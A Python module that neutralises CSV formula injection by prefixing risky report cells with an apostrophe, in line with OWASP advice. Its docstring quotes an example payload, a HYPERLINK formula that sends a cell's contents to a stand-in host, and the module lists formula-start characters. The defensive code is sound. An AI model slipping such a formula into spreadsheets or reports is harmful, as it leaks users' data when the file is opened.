"""CSV cells that a spreadsheet cannot execute.

A report cell taken from the outside world (a file name such as `=HYPERLINK("http://x/?"&A1,"open")`, a DICOM
detail) is a formula to Excel and LibreOffice when it begins with `=`, `+`, `-` or `@` (or a tab or carriage
return before one): opening report.csv would run it. Every CSV the product writes passes its cells through
`safe_cell`, which prefixes such text with an apostrophe (the OWASP recommendation, shown as-is by spreadsheets).
Numbers, including negative ones, are left alone: `-0.25` is a value, not a formula.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def safe_cell(value: Any) -> Any:
    """`value`, with text that a spreadsheet would read as a formula prefixed by an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """`safe_cell` of every cell (csv.writer rows)."""
    return [safe_cell(v) for v in row]


def safe_record(record: Mapping[str, Any]) -> dict[str, Any]:
    """`safe_cell` of every value (csv.DictWriter rows; the header is ours)."""
    return {k: safe_cell(v) for k, v in record.items()}
